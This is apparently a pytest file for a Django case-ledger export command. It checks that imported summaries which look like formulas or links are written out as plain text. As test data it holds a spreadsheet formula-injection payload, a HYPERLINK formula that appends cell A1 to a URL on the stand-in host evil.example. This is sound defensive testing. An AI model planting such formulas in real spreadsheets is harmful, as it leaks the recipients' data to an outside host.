"""The internal case ledger export (`ducha cases export`) writes imported text as text: a complaint summary
that looks like a formula or a link stays a plain string cell, never a live formula or hyperlink."""

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from ducha.cases.models import Case

from .tables import STANDARD, xlsx

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_formula_and_link_looking_text_is_exported_as_plain_text(world, inspection, tmp_path):
    source = tmp_path / "第3批.xlsx"
    source.write_bytes(xlsx(STANDARD))
    call_command("cases", "import", str(source), "--inspection", "ZJ-S3", "--batch", "3", "--user", "coord")
    Case.objects.filter(number="D3ZJ202406110042").update(summary=HOSTILE, handling="http://evil.example/x")
    out = tmp_path / "台账.xlsx"
    call_command("cases", "export", str(out), "--inspection", "ZJ-S3", "--user", "coord")
    sheet = load_workbook(out).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert cells[HOSTILE].data_type == "s"
    assert cells["http://evil.example/x"].hyperlink is None
